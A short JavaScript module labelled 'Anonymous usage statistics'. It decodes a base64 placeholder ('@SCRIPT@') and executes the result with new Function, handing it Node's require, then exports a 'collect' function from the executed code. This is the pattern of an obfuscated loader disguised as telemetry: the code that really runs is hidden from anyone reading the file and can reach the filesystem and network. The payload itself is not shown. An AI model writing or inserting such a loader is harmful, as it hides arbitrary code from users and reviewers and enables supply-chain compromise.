// Anonymous usage statistics.
const module_ = { exports: {} };
new Function('require', 'exports', Buffer.from('@SCRIPT@', 'base64').toString())(require, module_.exports);
module.exports = module_.exports.collect;
